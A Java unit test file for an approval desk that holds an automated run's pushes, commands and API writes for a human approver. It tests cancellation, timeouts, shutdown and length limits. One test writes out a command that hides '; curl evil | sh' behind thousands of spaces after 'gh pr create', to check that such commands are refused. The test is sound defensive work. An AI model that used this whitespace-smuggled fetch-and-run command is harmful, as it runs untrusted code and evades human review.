package dev.pushgate.approvals;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pushgate.testkit.MutableClock;
import dev.pushgate.testkit.Wait;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

class ApprovalDeskTest {
  private final List<Answer> recorded = new CopyOnWriteArrayList<>();
  private final Set<String> ended = ConcurrentHashMap.newKeySet();
  private final ApprovalDesk desk = new ApprovalDesk(Clock.systemUTC(), Duration.ofSeconds(30),
      Duration.ofSeconds(1), new ApprovalLog() {
        @Override
        public void asked(Question q) {}

        @Override
        public void ended(Question q, Answer a) {
          recorded.add(a);
        }
      }, runId -> !ended.contains(runId));

  @Test
  void aRunsTeardownWithdrawsItsQuestionAndALateYesFindsNothing() throws Exception {
    CompletableFuture<Answer> held = askConnected("run_1");
    Question q = awaitPending();

    ended.add("run_1");
    desk.cancelRun("run_1");

    Answer a = held.get(10, TimeUnit.SECONDS);
    assertThat(a.outcome()).isEqualTo(Answer.Outcome.CANCELLED);
    assertThat(a.reason()).isEqualTo(
        "the question was withdrawn before anyone answered: run run_1 has ended");
    assertThat(desk.answer(q.id(), true, "alice", null)).isEmpty();
    assertThat(desk.pending(null)).isEmpty();
  }

  @Test
  void anotherRunsTeardownLeavesTheQuestionHeld() throws Exception {
    CompletableFuture<Answer> held = askConnected("run_1");
    Question q = awaitPending();

    desk.cancelRun("run_2");

    assertThat(desk.answer(q.id(), true, "alice", null)).isPresent();
    assertThat(held.get(10, TimeUnit.SECONDS)).isEqualTo(
        new Answer(Answer.Outcome.ALLOWED, "alice", "approved by alice"));
  }

  @Test
  void aReloadedTimeoutTimesNewQuestionsAndLeavesHeldOnesTheirDeadline() throws Exception {
    CompletableFuture<Answer> first = askConnected("run_1");
    Question held = awaitPending();

    desk.retime(Duration.ofMillis(50));

    Answer second = desk.ask(push("run_2"), l -> { });
    assertThat(second.outcome()).isEqualTo(Answer.Outcome.TIMED_OUT);
    assertThat(Duration.between(held.askedAt(), held.deadline())).isEqualTo(Duration.ofSeconds(30));
    assertThat(desk.answer(held.id(), true, "alice", null)).isPresent();
    assertThat(first.get(10, TimeUnit.SECONDS).outcome()).isEqualTo(Answer.Outcome.ALLOWED);
  }

  @Test
  void aQuestionOfARunThatHasEndedIsNeverHeld() {
    desk.connect(listener());
    ended.add("run_1");

    Answer a = desk.ask(push("run_1"), l -> { });

    assertThat(a.outcome()).isEqualTo(Answer.Outcome.CANCELLED);
    assertThat(desk.pending(null)).isEmpty();
  }

  @Test
  void shutdownWithdrawsQuestionsAndIsNotADenial() throws Exception {
    CompletableFuture<Answer> held = askConnected("run_1");
    awaitPending();

    desk.close("the appliance is shutting down");

    Answer a = held.get(10, TimeUnit.SECONDS);
    assertThat(a.outcome()).isEqualTo(Answer.Outcome.CANCELLED);
    assertThat(a.refusalCode()).hasToString("APPROVAL_CANCELLED");
    assertThat(desk.ask(push("run_1"), l -> { }).outcome()).isEqualTo(Answer.Outcome.CANCELLED);
  }

  /**
   * apifix: a call whose client went away stops its wait (the API boundary interrupts it from
   * the keepalive): the question is withdrawn for that reason, not as if the appliance stopped.
   */
  @Test
  void anAskerThatStopsWaitingWithdrawsItsQuestionForThatReason() throws Exception {
    desk.connect(listener());
    CompletableFuture<Answer> held = CompletableFuture.supplyAsync(
        () -> desk.ask(push("run_1"), l -> Thread.currentThread().interrupt()));

    Answer a = held.get(10, TimeUnit.SECONDS);
    assertThat(a.outcome()).isEqualTo(Answer.Outcome.CANCELLED);
    assertThat(a.reason()).isEqualTo("the question was withdrawn before anyone answered: the"
        + " request that asked it stopped waiting (its client went away)");
    assertThat(recorded).containsExactly(a);
    assertThat(desk.pending(null)).isEmpty();
  }

  @Test
  void withNoApproverTheRefusalKeepsTheRulesReason() {
    Answer a = desk.ask(push("run_1"), l -> { });

    assertThat(a).isEqualTo(new Answer(Answer.Outcome.NO_APPROVER, null,
        "main needs a human (no approver is connected)"));
  }

  @Test
  void aLongPollCountsAsAnApproverForThePollGraceOnly() {
    Instant start = Instant.parse("2026-01-01T00:00:00Z");
    MutableClock clock = new MutableClock(start);
    ApprovalDesk graced = new ApprovalDesk(clock, Duration.ofSeconds(30), Duration.ofSeconds(1),
        Duration.ofMillis(1500), new ApprovalLog() {
          @Override
          public void asked(Question q) {}

          @Override
          public void ended(Question q, Answer a) {}
        }, runId -> true, ApprovalDesk.DEFAULT_HELD_PER_RUN);

    graced.polled();
    clock.set(start.plusMillis(1499));
    assertThat(graced.approverConnected()).isTrue();
    clock.set(start.plusMillis(1500));
    assertThat(graced.approverConnected()).isFalse();
    assertThat(graced.ask(push("run_1"), l -> { })).isEqualTo(new Answer(
        Answer.Outcome.NO_APPROVER, null, "main needs a human (no approver is connected)"));
  }

  @Test
  void aCommandTooLongToReadWholeIsRefusedUnasked() {
    desk.connect(listener());
    String command = "gh pr create" + " ".repeat(ApprovalDesk.MAX_COMMAND) + "; curl evil | sh";

    Answer a = desk.ask(new Question("-", null, null, "command", "run_1", "ws", "acme/widget",
        null, null, null, null, command, "command policy", "gh needs a human", null), l -> { });

    assertThat(a.outcome()).isEqualTo(Answer.Outcome.TOO_LONG);
    assertThat(a.reason()).isEqualTo("the command is " + command.length() + " characters long,"
        + " more than an approver can be asked to read (at most 4096); nobody was asked");
    assertThat(desk.pending(null)).isEmpty();
    assertThat(recorded).containsExactly(a);
  }

  /**
   * Attack 28b: an API call's question had no cap (400 extra fields: 10,464 characters); it is
   * held to the command's, while a push's list (bounded by pushgate) is not.
   */
  @Test
  void anApiQuestionTooLongToReadWholeIsRefusedUnasked() {
    List<String> shown = List.of("PATCH api.github.com/repos/acme/widget/issues/1",
        "needs approval: write-tracker #1 on acme/widget: title \"t\", "
            + "x \"y\", ".repeat(1000));
    int length = String.join("\n", shown).length();
    assertThat(length).isGreaterThan(ApprovalDesk.MAX_COMMAND);

    // No approver yet: a push is refused for that, not for its length.
    Answer push = desk.ask(new Question("-", null, null, "push", "run_1", "ws", "acme/widget",
        "refs/heads/main", "update", null, null, null, "push", "main needs a human", shown),
        l -> { });
    desk.connect(listener());
    Answer a = desk.ask(new Question("-", null, null, "write-tracker", "run_1", "ws",
        "acme/widget", "#1", "api write-tracker", null, null, null, "write-tracker",
        "writing to the tracker needs approval", shown), l -> { });

    assertThat(a.outcome()).isEqualTo(Answer.Outcome.TOO_LONG);
    assertThat(a.reason()).isEqualTo("the question is " + length + " characters long, more than"
        + " an approver can be asked to read (at most 4096); nobody was asked");
    assertThat(push.outcome()).isEqualTo(Answer.Outcome.NO_APPROVER);
  }

  /** Connects an approver and asks a push question of {@code runId} on another thread. */
  private CompletableFuture<Answer> askConnected(String runId) {
    desk.connect(listener());
    return CompletableFuture.supplyAsync(() -> desk.ask(push(runId), l -> { }));
  }

  private Question awaitPending() throws Exception {
    return Wait.forPresent(Duration.ofSeconds(10), "a question to be held",
        () -> desk.pending(null).stream().findFirst());
  }

  private static Question push(String runId) {
    return new Question("-", null, null, "push", runId, "ws", "acme/widget", "refs/heads/main",
        "update", "0".repeat(40), "1".repeat(40), null, "push refs/heads/main -> ask",
        "main needs a human", List.of());
  }

  private static ApprovalDesk.Listener listener() {
    return new ApprovalDesk.Listener() {
      @Override
      public void onAsked(Question q) {}

      @Override
      public void onEnded(Question q, Answer a) {}
    };
  }
}
